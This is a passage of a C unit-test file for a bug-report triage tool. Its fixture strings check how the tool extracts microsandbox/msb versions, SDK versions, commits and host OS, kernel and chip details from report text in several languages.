	{ "I ran semgrep over the repo at main\n7e3a9c0d41b2f5e6a7b8c9d0e1f2a3b4c5d6e7f8 and got two hits.\n",
	  "7e3a9c0d41b2f5e6a7b8c9d0e1f2a3b4c5d6e7f8", "commit" },
	{ "Still reproduces on master 5c1e8a2b after a clean build.\n", "5c1e8a2b", "commit" },
	{ "Getestet auf main 4a7c2e9f, selbst gebaut.\n", "4a7c2e9f", "commit" },
	{ "Det fungerar p\xc3\xa5 main 8b2d4f6a fortfarande.\n", "8b2d4f6a", "commit" },
	{ "CI ran on main 2048000 times this year.\n", NULL, NULL },
	{ "I compared with libkrun's source at main 3d5f7a9b and it checks the length.\n", NULL, NULL },
	{ "The fix landed on main 6e8a0c2d yesterday.\n", NULL, NULL },
	/* (1132) a "v" version after "on" in another language; not a move
	 * or a fix, nor a bare number after the preposition */
	{ "Wir haben das mit trivy auf v0.9.7 gepr\xc3\xbc" "ft.\n", "0.9.7", "prose" },
	{ "Reproduit sur v0.10.2 avec la config par d\xc3\xa9" "faut.\n", "0.10.2", "prose" },
	{ "Ihr solltet auf v0.10.5 aktualisieren.\n", NULL, NULL },
	{ "Der Z\xc3\xa4hler steht auf 0.9.7 Prozent.\n", NULL, NULL },
	/* (1668) a repository file read at a commit said in parentheses; a
	 * fix's file or another project's is still none */
	{ "* ci/nightly.yaml (at 6c2e9a41f0b3d7e8, tip of main on Monday) mounts the cache rw.\n",
	  "6c2e9a41f0b3d7e8", "commit" },
	{ "The installer (scripts/get-msb.sh (as of 3a9f1c7e)) skips the signature check.\n",
	  "3a9f1c7e", "commit" },
	{ "The fix landed in src/net/proxy.rs (at 9e8d7c6b) but I have not retested.\n", NULL, NULL },
	{ "libkrun's src/vmm/virtio.rs (at 0d1e2f3a4b5c) has the same bounds check.\n", NULL, NULL },
	/* (1681) the product's crate in a dependency tree is only the
	 * workspace's number when the checked-out commit is given; alone it
	 * is still the version, and another crate's row is not ours */
	{ "$ git rev-parse HEAD\n7a1c3e5b9d2f4a6c8e0b1d3f5a7c9e1b3d5f7a9c\n$ cargo deny check advisories\n"
	  "tokio 1.38.0\n\xe2\x94\x94\xe2\x94\x80\xe2\x94\x80 msb 0.10.6\n",
	  "7a1c3e5b9d2f4a6c8e0b1d3f5a7c9e1b3d5f7a9c", "commit" },
	{ "HEAD is at 2b4d6f8a.\nDependency tree:\nrustls 0.23.1\n`-- microsandbox v0.10.4\n", "2b4d6f8a", "commit" },
	{ "Dependency tree:\nidna 0.5.0\n\xe2\x94\x94\xe2\x94\x80\xe2\x94\x80 url 2.5.0\n    \xe2\x94\x94\xe2\x94\x80\xe2\x94\x80 msb 0.10.6\n",
	  "0.10.6", "msb" },
	{ "$ git rev-parse HEAD\n5e7a9c1b\nDependency tree:\nring 0.17.5\n\xe2\x94\x94\xe2\x94\x80\xe2\x94\x80 rustls 0.23.1\n", "5e7a9c1b", "commit" },
	/* (1687) a key-value table drawn with box-drawing characters or ASCII
	 * bars: the product's row or a version row is read like "key: value";
	 * another product's row, or a kernel's version row, is not */
	{ "\xe2\x94\x82 msb          \xe2\x94\x82 0.10.3 (5d2c8e1, built 2028-09-01) \xe2\x94\x82\n", "0.10.3", "prose" },
	{ "\xe2\x94\x83 microsandbox \xe2\x94\x83 v0.9.12 \xe2\x94\x83\n", "0.9.12", "pip" },
	{ "+---------+---------+\n| check   | result  |\n+---------+---------+\n| version | 0.10.2  |\n+---------+---------+\n", "0.10.2", "prose" },
	{ "\xe2\x94\x82 CLI version    \xe2\x94\x82 0.8.11 \xe2\x94\x82\n", "0.8.11", "prose" },
	{ "\xe2\x94\x82 docker       \xe2\x94\x82 27.3.1       \xe2\x94\x82\n\xe2\x94\x82 kernel version \xe2\x94\x82 6.8.12 \xe2\x94\x82\n", NULL, NULL },
	{ "| microsandbox version | v0.10.1 |\n| qemu version | 9.1.0 |\n", "0.10.1", "msb" },
	{ "| qemu | 9.1.0 |\n| Kernel version | 6.11.4 |\n", NULL, NULL },
	/* (1701) a spoken "this is version X", in a transcription that wraps
	 * the sentence, maybe with the host after it; another program's
	 * version, or a version number without its three parts, is none */
	{ "so, um, this is version\n0.10.4 on Debian 12. Please call back.\n", "0.10.4", "prose" },
	{ "That's version 0.9.8, I think.\n", "0.9.8", "prose" },
	{ "This is version 3.12.4 of Python, the one in the image.\n", NULL, NULL },
	{ "This is version 10 on Windows, the home edition.\n", NULL, NULL },
	{ "This is version 2.41.0 of git on my laptop.\n", NULL, NULL },
	/* (#3) the newest release named as the one the writer uses, its
	 * number after it; not advice to move to it, nor another program's */
	{ "Versioni: we always use the newest release, 0.12.4, on every box.\n", "0.12.4", "prose" },
	{ "Setup: I am running the current\nversion (0.9.17) from the tap.\n", "0.9.17", "prose" },
	{ "You should install the latest version, 0.12.5, before anything else.\n", NULL, NULL },
	{ "We use the latest version of rustc, 1.83.0, for the build.\n", NULL, NULL },
	/* (#3) a "Version" heading over a record whose "version" key answers it */
	{ "Version (as the server reports it):\n\n  GET /api/v1/version -> 200\n"
	  "  { \"api\": \"v1\", \"version\": \"0.12.1\" }\n", "0.12.1", "package" },
	{ "Here is the health check:\n  {\"status\": \"ok\", \"version\": \"3.4.1\"}\n", NULL, NULL },
	/* (#3) the release named before the word, whose CI run or artifacts
	 * the writer looked at; not a hypothetical one, nor one to come */
	{ "Your v0.12.7 release build pulled the poisoned helper.\n", "0.12.7", "tag" },
	{ "The job log of that `v0.9.30` release\nrun has the token in clear.\n", "0.9.30", "tag" },
	{ "Anyone could swap the v0.11.8 release tarballs on the bucket.\n", "0.11.8", "tag" },
	{ "A v0.12.2 release run would publish whatever the cache holds.\n", NULL, NULL },
	{ "I hope the v0.12.9 release will ship with pinned actions.\n", NULL, NULL },
	{ "The v2.4.0 tag of actions/cache moved last week.\n", NULL, NULL },
	/* (#3) pip's own report of an install: the package already there, the
	 * one it installed, the distribution it fetched; a dependency that
	 * microsandbox pulled in is another package's version */
	{ "(venv) $ pip install --upgrade microsandbox\n"
	  "Requirement already satisfied: microsandbox in /srv/bot/venv/lib/python3.11/site-packages (0.10.7)\n"
	  "Requirement already satisfied: aiohttp>=3.9 in /srv/bot/venv/lib/python3.11/site-packages (from microsandbox) (3.10.11)\n",
	  "0.10.7", "pip" },
	{ "Requirement already satisfied: microsandbox>=0.10 in ./env/lib/python3.13/site-packages (from -r req.txt (line 2)) (0.10.9)\n",
	  "0.10.9", "pip" },
	{ "Installing collected packages: sniffio, anyio, microsandbox\nSuccessfully installed anyio-4.6.2 microsandbox-0.9.14 sniffio-1.3.1\n",
	  "0.9.14", "pip" },
	{ "  Downloading microsandbox-0.10.2-py3-none-any.whl.metadata (3.1 kB)\n", "0.10.2", "pip" },
	{ "I did pip install microsandbox, then:\n"
	  "Requirement already satisfied: idna>=2.8 in ~/.local/lib/python3.12/site-packages (from anyio->microsandbox) (3.10)\n"
	  "Requirement already satisfied: certifi in ~/.local/lib/python3.12/site-packages (from httpx->microsandbox) (2024.8.30)\n"
	  "Requirement already satisfied: rich in ~/.local/lib/python3.12/site-packages (from microsandbox) (13.9.4)\n",
	  NULL, NULL },
	{ "Successfully installed microsandbox-tools-1.2.0 pydantic-2.9.2\n", NULL, NULL },
	/* (#3) the CLI's User-Agent behind a debug log's prefix or as a key of
	 * a JSON dump of the headers; one the writer sets in a command is chosen,
	 * not reported, and another tool's is none */
	{ "TRACE msb::api::client:   user-agent: msb-cli/0.10.6 (darwin; aarch64)\n", "0.10.6", "msb" },
	{ "req headers={\"accept\": \"application/json\", \"user-agent\": \"msb-cli/0.9.15\"}\n", "0.9.15", "msb" },
	{ "curl -s -H \"User-Agent: msb-cli/7.7.7\" https://api.example.test/v1/keys\n", NULL, NULL },
	{ "[debug] http: user-agent: orbit-runner/4.0.2 (msb-compatible)\n", NULL, NULL },
	/* (#3) a number given as the name of a branch someone creates is a
	 * name, not a release: not read there nor anywhere else; the release
	 * tag and the version the writer ran still are */
	{ "An attacker opens a PR from a branch named v4.4.4; the deploy log then shows\n"
	  "  publishing assets to release v4.4.4 ... ok\n", NULL, NULL },
	{ "git switch -c v8.0.1\ngit push attacker v8.0.1\nThe publish step uploads to tag v8.0.1.\n"
	  "Our own runner has msb 0.10.4.\n", "0.10.4", "msb" },
	{ "git push origin HEAD:refs/heads/v3.3.3 triggers it; see release v3.3.3 in my fork.\n", NULL, NULL },
	{ "The workflow in the tag v0.10.8 trusts the branch name.\n", "0.10.8", "tag" },
	/* (#3) msb's own helper process announcing itself in its log (the one
	 * version an attached debug log gives); an address after it or
	 * another msb-something is not */
	{ "2031-02-03T08:10:11Z  INFO msb_fsd: msb-fsd 0.9.12 starting share=/data\n", "0.9.12", "msb" },
	{ "Mar 02 10:01:07 ci-7 msb-hostd[4410]: msb-hostd v0.10.3 listening on /run/msb.sock\n", "0.10.3", "msb" },
	{ "DEBUG msb_netd::tcp: msb-netd 10.0.2.15:48820 -> 203.0.113.77:443 denied\n"
	  "the msb-upload 3.1.4 helper is a third party's\n", NULL, NULL },
	/* (#3) Homebrew's Cellar path of the formula named msb is the build
	 * installed, not the formula's newest "stable"; another formula is not */
	{ "$ brew info msb\n==> superradcompany/tap/msb: stable 0.12.0\nInstalled\n"
	  "/opt/homebrew/Cellar/msb/0.11.8 (14 files, 40MB) *\n", "0.11.8", "msb" },
	{ "/usr/local/Cellar/msbuild/16.10.1 (2 files)\n", NULL, NULL },
	/* (#3) another crate's or package's record (cargo audit, apt show) is
	 * a dependency's version; the product's own record still is its own */
	{ "Crate:     serde_yaml\nVersion:   0.9.21\nTitle:     unsound\nDependency tree:\nserde_yaml 0.9.21\n"
	  "\u2514\u2500\u2500 microsandbox 0.10.6\n", "0.10.6", "msb" },
	{ "Crate:     ring\nVersion:   0.17.3\nWarning:   unmaintained\n", NULL, NULL },
	{ "$ git rev-parse HEAD\n7c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d\nDependency tree:\nring 0.16.20\n"
	  "\u2514\u2500\u2500 msb-fsd 0.11.0\n    \u2514\u2500\u2500 msb 0.11.0\n",
	  "7c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d", "commit" },
	{ "Package: containerd\nVersion: 1.7.24-1\nPriority: optional\n", NULL, NULL },
	/* (#3) the product's answer said to be new ("msb --version now
	 * shows"): the build run after a change, not the one seen first; one
	 * that made the bug go away is set aside */
	{ "I hit it first with msb --version: msb 0.10.7. Then I put a nightly next to it to compare, and "
	  "msb --version now shows msb 0.10.8-nightly.20310102; it still reproduces.\n",
	  "0.10.8-nightly.20310102", "prose" },
	{ "On msb 0.10.8 the socket leaks. After a reinstall msb --version now says 0.10.9 and the leak is gone.\n",
	  "0.10.8", "msb" },
	/* (#3) a commit's subject in `git commit`'s output is what a commit
	 * sets (a bump), not the release run; alone it is still a version */
	{ "the bot pushed:\n  [release 9d8c7b6] msb 0.14.2\n   1 file changed\nThe tap currently serves msb 0.11.6.\n",
	  "0.11.6", "msb" },
	{ "[main 1f2e3d4] microsandbox 0.13.1\n 1 file changed, 2 insertions(+)\n", "0.13.1", "msb" },
};

static void
test_version(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();

	for (gsize i = 0; i < G_N_ELEMENTS(versions); i++) {
		g_autoptr(StAnalysis) a = st_analysis_new();
		st_extract_version(rules, versions[i].text, a);
		if (g_strcmp0(a->version, versions[i].version) != 0 ||
		    g_strcmp0(a->version_kind, versions[i].kind) != 0)
			FAIL("version case %zu (%.40s): got %s/%s, want %s/%s", i, versions[i].text,
				a->version, a->version_kind, versions[i].version, versions[i].kind);
		if (a->version)
			g_assert_nonnull(a->version_evidence);
	}
}

/* (#3) an SDK's own version beside msb's: taken once the component is
 * the SDK's (st_extract_version_sdk after classification), the Rust
 * library's lock file only when the text names the library; a report on
 * msb itself, or another SDK's package, keeps msb's. */
static const struct {
	const char *text;
	const char *component;
	const char *version;
	const char *kind;
} sdk_versions[] = {
	{ "Installed versions on the notebook server:\n"
	  "  $ pip show microsandbox\n  Name: microsandbox\n  Version: 0.8.2\n"
	  "  $ msb --version\n  msb 0.8.4\n", "python_sdk", "0.8.2", "pip" },
	/* the same two versions in a report on the runtime: msb's */
	{ "Installed versions on the notebook server:\n"
	  "  $ pip show microsandbox\n  Name: microsandbox\n  Version: 0.8.2\n"
	  "  $ msb --version\n  msb 0.8.4\n", "core", "0.8.4", "msb" },
	{ "msb --version prints msb 0.6.5 here, and in the venv\n"
	  ">>> microsandbox.__version__\n'0.6.3'\n", "python_sdk", "0.6.3", "pip" },
	{ "What we run:\n\nmsb 0.9.3 (msb --version)\n\n$ npm ls microsandbox\n"
	  "agent-api@2.0.1 /srv/agent-api\n`-- microsandbox@0.9.1\n", "node_sdk", "0.9.1", "npm" },
	/* an npm package version is not the Python SDK's */
	{ "What we run:\n\nmsb 0.9.3 (msb --version)\n\n$ npm ls microsandbox\n"
	  "agent-api@2.0.1 /srv/agent-api\n`-- microsandbox@0.9.1\n", "python_sdk", "0.9.3", "msb" },
	{ "The Rust SDK leaks it. From our Cargo.lock:\n\n[[package]]\nname = \"microsandbox\"\n"
	  "version = \"0.7.3\"\n\nand msb --version says 0.7.5 on the same laptop.\n",
	  "core", "0.7.3", "lockfile" },
	{ "We embed msb as a Rust library; Cargo.lock pins\nname = \"microsandbox\"\nversion = \"0.7.3\"\n"
	  "msb version: 0.7.5\n", "core", "0.7.3", "lockfile" },
	/* a lock file of a clone with no library named: the CLI's version */
	{ "cargo audit over our clone's Cargo.lock flags the idna crate.\n"
	  "name = \"microsandbox\"\nversion = \"0.7.3\"\n$ msb --version\nmsb 0.7.5\n",
	  "core", "0.7.5", "msb" },
	/* no msb version beside it: the SDK's version stands as read */
	{ "Version: pip show microsandbox says 0.8.6\n", "python_sdk", "0.8.6", "pip" },
	/* a Python package's version is not the Node SDK's */
	{ "msb --version: msb 0.8.7\nThe helper script's venv: pip show microsandbox says 0.8.6\n",
	  "node_sdk", "0.8.7", "msb" },
};

static void
test_version_sdk(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();

	for (gsize i = 0; i < G_N_ELEMENTS(sdk_versions); i++) {
		g_autoptr(StAnalysis) a = st_analysis_new();
		st_extract_version(rules, sdk_versions[i].text, a);
		g_autofree char *before = g_strdup(a->version);
		g_autofree char *before_kind = g_strdup(a->version_kind);
		st_set(&a->component, sdk_versions[i].component);
		st_extract_version_sdk(rules, a);
		const char *want = sdk_versions[i].version;
		const char *kind = sdk_versions[i].kind;
		if (g_strcmp0(a->version, want) != 0 || g_strcmp0(a->version_kind, kind) != 0)
			FAIL("sdk version case %zu (%.40s): got %s/%s, want %s/%s", i,
				sdk_versions[i].text, a->version, a->version_kind, want, kind);
		g_assert_nonnull(a->version_evidence);
		/* the SDK's version replaces msb's only where msb's was read */
		if (g_strcmp0(a->version, before) != 0)
			g_assert_cmpstr(before_kind, ==, "msb");
	}
}

/* A reject group's "match.self.*" keys look at the candidate itself,
 * "match.after.*" at the text after it, the others at the text before. */
static void
test_reject_self(void)
{
	g_autoptr(StRules) rules = tu_rules_text(
		"[v]\nmatch = (?<v>\\d+\\.\\d+\\.\\d+)\n"
		"[v.not]\nwindow = 20\nmatch.self.date = \\A\\d\\d?\\.\\d\\d?\\.20\\d\\d\\z\n"
		"match.python = python\\s*\\z\n");
	const StRuleGroup *g = st_rules_group(rules, "v");
	const StRuleGroup *no = st_rules_group(rules, "v.not");
	const char *text = "on 26.11.2026 with python 3.12.7 and msb 0.8.5";
	StXHit h;

	g_assert_nonnull(g);
	g_assert_nonnull(no);
	g_assert_true(st_x_find(g, no, text, "v", &h));
	g_autofree char *v = st_x_named(&h, "v");
	g_assert_cmpstr(v, ==, "0.8.5");
	st_x_hit_clear(&h);
	/* the candidate alone decides: a date is dropped, a version is not */
	g_assert_true(st_x_rejected(no, text, 3, 13));
	g_assert_false(st_x_rejected(no, "msb 0.8.5", 4, 9));

	/* "match.token.*" keys look at the non-blank run the candidate stands in */
	g_autoptr(StRules) tok = tu_rules_text(
		"[t.not]\nwindow = 4\nmatch.token.url = \\A[a-z]+://\n");
	const StRuleGroup *t = st_rules_group(tok, "t.not");
	const char *url = "get https://dl.example/some/long/path?version=0.8.3 now";
	gint at = (gint)(strstr(url, "0.8.3") - url);
	g_assert_true(st_x_rejected(t, url, at, at + 5));
	g_assert_false(st_x_rejected(t, "msb 0.8.3 now", 4, 9));
	g_assert_false(st_x_rejected(t, "see https://x.example and 0.8.3", 26, 31));
}

/* ------------------------------------------------------------ platform */

static const struct {
	const char *text;
	const char *os, *distro, *kernel, *macos, *chip;
} platforms[] = {
	/* (1868) the kernel "of the server", and a version that ends the line
	 * above is not the kernel the next line names */
	{ "    msb 0.11.1\n\nKernel of the server is 6.11.4-301.fc41.x86_64 (Fedora 41).\n",
	  "linux", "Fedora 41", "6.11.4-301.fc41.x86_64", NULL, NULL },
	{ "The kernel of my laptop is 6.8.0-49-generic.\n", "linux", NULL, "6.8.0-49-generic", NULL, NULL },
	{ "Installed 0.10.9\nkernel hardening is off on purpose.\n", NULL, NULL, NULL, NULL, NULL },
	{ "Host runs a 6.1.0-27-amd64 kernel.\n", "linux", NULL, "6.1.0-27-amd64", NULL, NULL },
	/* (#3) the writer's machine named first, its distribution after it in
	 * an aside; not a distribution of something else there, nor one the
	 * machine is said not to run */
	{ "Sorry for the length. I am on my office laptop (Ubuntu) if that helps.\n", "linux", "Ubuntu", NULL, NULL, NULL },
	/* (1313) the machine named with whose it is and what kind ("our
	 * department's shared server", "my team's build box"), the
	 * distribution after "it's" in lower case; not a customer's server,
	 * nor one said not to run it */
	{ "We run msb on our lab's shared server (it's debian, nothing special).\n", "linux", "Debian", NULL, NULL, NULL },
	{ "It all happened on my team's build box, Fedora, last week.\n", "linux", "Fedora", NULL, NULL, NULL },
	{ "Our customer's server (it's Ubuntu) was never touched.\n", NULL, NULL, NULL, NULL, NULL },
	{ "It is on my department's server (it's not Ubuntu, something older).\n", NULL, NULL, NULL, NULL, NULL },
	/* (1314) the chip told apart after a comma, the sentence ended by
	 * its full stop ("my MacBook Air, the M3 one."), or named before
	 * "Air" as owners shorten a MacBook Air; not AirPods or AirDrop */
	{ "Tested on my MacBook Pro, the M4 Max one.\n", "macos", NULL, NULL, NULL, "Apple M4 Max" },
	{ "I do this on my M2 Air at home.\n", "macos", NULL, NULL, NULL, "Apple M2" },
	{ "I sent it from my M2 AirPods pairing screen by AirDrop.\n", NULL, NULL, NULL, NULL, NULL },
	{ "The repro ran on our test box, Debian, with msb 0.9.4.\n", "linux", "Debian", NULL, NULL, NULL },
	{ "Everything below happened on my desktop with Linux Mint.\n", "linux", "Linux Mint", NULL, NULL, NULL },
	{ "I use my laptop (Fedora VM inside) for this kind of test.\n", NULL, NULL, NULL, NULL, NULL },
	{ "My server, Ubuntu images only, serves the rootfs files.\n", NULL, NULL, NULL, NULL, NULL },
	{ "It happened on my laptop (not Fedora, something older).\n", NULL, NULL, NULL, NULL, NULL },
	{ "Our customers' laptops (Fedora) are affected too.\n", NULL, NULL, NULL, NULL, NULL },
	/* (1803) a relayed report's host given on a labelled line ("Customer's
	 * host:"): the host when the writer names no other; not a customer's
	 * machine named beside the facts, and the writer's own host wins */
	{ "Our abuse desk saw the spam.\nCustomer's server: msb 0.10.7 reported by --version, Debian 12 with kernel 6.1.0-30-amd64.\n",
	  "linux", "Debian 12", "6.1.0-30-amd64", NULL, NULL },
	{ "Client\xe2\x80\x99s host: Fedora Linux 41, they sent us uname -r 6.12.5-200.fc41.x86_64.\n",
	  "linux", "Fedora Linux 41", "6.12.5-200.fc41.x86_64", NULL, NULL },
	{ "Customer's hosts: Ubuntu 22.04.5 LTS.\nI reproduced it myself on my laptop running Fedora 41.\n",
	  "linux", "Fedora 41", NULL, NULL, NULL },
	{ "| API server | 2.3 | customer build hosts, Rocky Linux 9.4 |\n", NULL, NULL, NULL, NULL, NULL },
	/* (1809) Indonesian: the machine with its possessive after it, or the
	 * writer using or running on the distribution; not a machine that is
	 * not one, nor an image or the guest of that distribution */
	{ "Di laptop saya pakai Fedora, msb dari brew.\n", "linux", "Fedora", NULL, NULL, NULL },
	{ "Bug ini muncul di VPS kantor kami (4 core, Debian).\n", "linux", "Debian", NULL, NULL, NULL },
	{ "Server kami Ubuntu, semua user pakai akun masing-masing.\n", "linux", "Ubuntu", NULL, NULL, NULL },
	{ "File itu bisa dibaca di mesin build bersama kami\n(tiga tim, Fedora) oleh siapa saja.\n", "linux", "Fedora", NULL, NULL, NULL },
	{ "Sudah dites di Linux Mint juga, hasilnya sama.\n", "linux", "Linux Mint", NULL, NULL, NULL },
	{ "Komputer saya bukan Ubuntu, jadi belum saya coba.\n", NULL, NULL, NULL, NULL, NULL },
	{ "Saya pakai image Debian untuk sandbox-nya.\n", NULL, NULL, NULL, NULL, NULL },
	{ "Kami pakai Ubuntu sebagai image guest.\n", NULL, NULL, NULL, NULL, NULL },
	{ "Maaf lagi di jalan, nanti saya kirim detailnya. Soal Ubuntu belum tahu.\n", NULL, NULL, NULL, NULL, NULL },
	{ "My laptop, Fedora is not supported by our IT anyway.\n", NULL, NULL, NULL, NULL, NULL },
	/* (#3) a distribution no pattern knows, "Name Linux N" or "Name OS N",
	 * with an edition word before its kernel, or as the writer's machine;
	 * a guest image or a bare "Linux 6.8" is none */
	/* (#3) a CI runner's machine image named by its label is the host
	 * (os, distro or macOS release, never a kernel); a workflow's runs-on,
	 * a self-hosted runner and a container image's tag are not */
	{ "Reproduced on our GitLab-hosted debian-12 runner with msb 0.9.8.\n", "linux", "Debian 12", NULL, NULL, NULL },
	{ "Runner Image: ubuntu-22.04\n", "linux", "Ubuntu 22.04", NULL, NULL, NULL },
	{ "We see it on the macos-15 runners too.\n", "macos", NULL, NULL, "15", NULL },
	{ "It fails on ubuntu-latest runners as well.\n", "linux", NULL, NULL, NULL, NULL },
	{ "jobs:\n  test:\n    runs-on: self-hosted\n", NULL, NULL, NULL, NULL, NULL },
	{ "jobs:\n  build:\n    runs-on: ubuntu-latest\n", NULL, NULL, NULL, NULL, NULL },
	{ "msb run --image ubuntu:24.04 -- sh\n", NULL, NULL, NULL, NULL, NULL },
	{ "Host: Heron OS 7 Server, kernel 6.9.2-hrn1\n", "linux", "Heron OS 7", "6.9.2-hrn1", NULL, NULL },
	{ "It happens on a Tern Linux 12 laptop with msb 0.9.8.\n", "linux", "Tern Linux 12", NULL, NULL, NULL },
	{ "The guest runs Linux 6.8, kernel 6.8.0 inside the VM.\n", "linux", NULL, "6.8.0", NULL, NULL },
	/* round 44: `ver` of a localised Windows names "Version" in its language */
	{ "The computer: Windows 11 Pro 24H2,\n\nC:\\> ver\n\nMicrosoft Windows [Versi\xc3\xb3n 10.0.26100.2314]\n",
	  "windows", "Windows 11 Pro 24H2", "10.0.26100.2314", NULL, NULL },
	{ "Microsoft Windows [Wersja 10.0.19045.5131]\nWindows 10 Home\n",
	  "windows", "Windows 10 Home", "10.0.19045.5131", NULL, NULL },
	/* issue #3: someone else's machine is a second choice ([platform.aside]) */
	{ "A teammate saw the same on his Mac mini (macOS 14.6.1, Apple M2).\nAll output below is from my workstation:\n"
	  "PRETTY_NAME=\"Fedora Linux 41 (Workstation Edition)\"\n$ uname -r\n6.11.10-300.fc41.x86_64\n",
	  "linux", "Fedora Linux 41 (Workstation Edition)", "6.11.10-300.fc41.x86_64", NULL, NULL },
	{ "I tested on Debian 12 with kernel 6.1.0-28-amd64; my coworker's laptop runs macOS Sequoia 15.2 on an M4 and shows it too.\n",
	  "linux", "Debian 12", "6.1.0-28-amd64", NULL, NULL },
	{ "My colleague found it on her MacBook Air M3 with macOS 15.1.1; I only forward it.\n",
	  "macos", NULL, NULL, "15.1.1", "Apple M3" },
	/* a table row or a list item ends the veto's window like a sentence */
	{ "- Ubuntu 22.04.5 LTS, 5.15.0-126-generic: not affected\n- Arch Linux, 6.12.4-arch1-1: root shell\n",
	  "linux", "Arch Linux", "6.12.4-arch1-1", NULL, NULL },
	{ "| box | system | result |\n|---|---|---|\n| air | macOS 14.7.1, Apple M1 | not tested |\n"
	  "| ws | Debian 12, kernel 6.1.0-27-amd64 | escape |\n",
	  "linux", "Debian 12", "6.1.0-27-amd64", NULL, NULL },
	/* round 26: the chip before a hyphenated "chip" word */
	{ "Maskin: macOS 15.2 p\xc3\xa5 en MacBook Pro med M3 Pro-brikke\n", "macos", NULL, NULL, "15.2", "Apple M3 Pro" },
	/* ChromeOS around a Crostini container is only the outer machine */
	{ "Chromebook, ChromeOS 130, msb runs in the Crostini Linux container\n(Debian 12 bookworm), "
	  "`uname -r` says 6.6.46-04024-gd2c3e5f1b0aa\n", "linux", "Debian 12", "6.6.46-04024-gd2c3e5f1b0aa", NULL, NULL },
	{ "$ uname -a\nLinux build-07 6.1.0-26-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.112-1 (2024-09-30) x86_64 GNU/Linux\n",
	  "linux", NULL, "6.1.0-26-amd64", NULL, NULL },
	{ "$ cat /etc/os-release\nPRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nNAME=\"Debian GNU/Linux\"\n$ uname -r\n6.1.0-27-amd64\n",
	  "linux", "Debian GNU/Linux 12 (bookworm)", "6.1.0-27-amd64", NULL, NULL },
	{ "NAME=\"AlmaLinux\"\nVERSION=\"9.4 (Seafoam Ocelot)\"\nID=\"almalinux\"\n$ uname -r\n5.14.0-427.13.1.el9_4.x86_64\n",
	  "linux", "AlmaLinux 9.4 (Seafoam Ocelot)", "5.14.0-427.13.1.el9_4.x86_64", NULL, NULL },
	/* issue #3: a distribution's release printed before `uname -r` on a
	 * chained line (debian_version, lsb_release -rs, $VERSION_ID) is not
	 * the kernel; the line after it is */
	{ "$ cat /etc/debian_version; uname -r\n11.11\n5.10.0-33-amd64\n", "linux", NULL, "5.10.0-33-amd64", NULL, NULL },
	{ "$ lsb_release -rs && uname -r\n22.04\n6.8.12\n", "linux", NULL, "6.8.12", NULL, NULL },
	{ "# . /etc/os-release; echo $VERSION_ID; uname -r\n40\n6.10.3-200.fc40.x86_64\n", "linux", NULL, "6.10.3-200.fc40.x86_64", NULL, NULL },
	{ "$ cat /etc/debian_version && uname -r\ntrixie/sid\n6.11.5\n", "linux", NULL, "6.11.5", NULL, NULL },
	/* (not when uname comes first: its own line is the kernel) */
	{ "$ uname -r; cat /etc/debian_version\n6.1.0-25-amd64\n12.7\n", "linux", NULL, "6.1.0-25-amd64", NULL, NULL },
	{ "$ cat /etc/debian_version\n12.8\n$ uname -r\n6.1.0-27-cloud-amd64\n", "linux", NULL, "6.1.0-27-cloud-amd64", NULL, NULL },
	{ "$ msb --version; uname -r\n0.9.8\n6.9.4\n", "linux", NULL, "6.9.4", NULL, NULL },
	{ "$ lsb_release -ds; uname -r\nUbuntu 24.04.1 LTS\n6.8.0-49-generic\n", "linux", "Ubuntu 24.04.1 LTS", "6.8.0-49-generic", NULL, NULL },
	/* (1607) the bundled guest kernel's release, from uname -r run in the
	 * sandbox, is not the host's; the host's named after it is */
	{ "In the VM:\n$ uname -r\n6.1.98-microsandbox\n\nHost is Debian 12, kernel 6.1.0-28-amd64.\n",
	  "linux", "Debian 12", "6.1.0-28-amd64", NULL, NULL },
	{ "guest$ uname -r\n6.12.3-msb\n", NULL, NULL, NULL, NULL, NULL },
	{ "$ uname -r\n6.12.3-msft-custom\n", "linux", NULL, "6.12.3-msft-custom", NULL, NULL },
	{ "$ cd /srv && uname -r\n6.8.0-45-generic\n", "linux", NULL, "6.8.0-45-generic", NULL, NULL },
	/* round 14: a host the schema has no os for; the distro on the kernel's
	 * line wins over one named earlier; a kernel floor is no kernel */
	{ "$ cat /etc/os-release\nNAME=FreeBSD\nVERSION=\"14.1-RELEASE-p5\"\nPRETTY_NAME=\"FreeBSD 14.1-RELEASE-p5\"\n"
	  "$ uname -r\n14.1-RELEASE-p5\n", NULL, "FreeBSD 14.1-RELEASE-p5", "14.1-RELEASE-p5", NULL, NULL },
	{ "The stock profile breaks our screenshot job on Fedora 40.\n\n"
	  "Host: Ubuntu 22.04.4 LTS, kernel 6.5.0-45-generic, Node 22.11.0.\n",
	  "linux", "Ubuntu 22.04.4 LTS", "6.5.0-45-generic", NULL, NULL },
	{ "It installs on Linux (kernel 5.10 or later) and macOS.\n", NULL, NULL, NULL, NULL, NULL },
	{ "Host: Fedora 40, kernel 6.8, x86_64 laptop.", "linux", "Fedora 40", "6.8", NULL, NULL },
	{ "Tested on Ubuntu 22.04 with 5.15.0-125-generic.", "linux", "Ubuntu 22.04", "5.15.0-125-generic", NULL, NULL },
	{ "$ lsb_release -a\nNo LSB modules are available.\nDistributor ID:\tUbuntu\nDescription:\tUbuntu 22.04.4 LTS\nRelease:\t22.04\n",
	  "linux", "Ubuntu 22.04.4 LTS", NULL, NULL, NULL },
	{ "$ hostnamectl\n   Static hostname: ci-01\n  Operating System: Debian GNU/Linux 12 (bookworm)\n            Kernel: Linux 6.1.0-28-amd64\n      Architecture: x86-64\n",
	  "linux", "Debian GNU/Linux 12 (bookworm)", "6.1.0-28-amd64", NULL, NULL },
	{ "arch linux, 6.10.10-arch1-1", "linux", "arch linux", "6.10.10-arch1-1", NULL, NULL },
	/* (1436) Kali as it names itself ("Kali GNU/Linux Rolling"), and a
	 * hostnamectl-style field as an item of a list; Windows there is the
	 * edition, not a Linux distribution */
	{ "Environment:\n- Operating System: Kali GNU/Linux Rolling 2025.1\n- Browser: Firefox 128.0\n",
	  "linux", "Kali GNU/Linux Rolling 2025.1", NULL, NULL, NULL },
	{ "Tested from my laptop on Kali Rolling 2024.4 with kernel 6.11.2-amd64.",
	  "linux", "Kali Rolling 2024.4", "6.11.2-amd64", NULL, NULL },
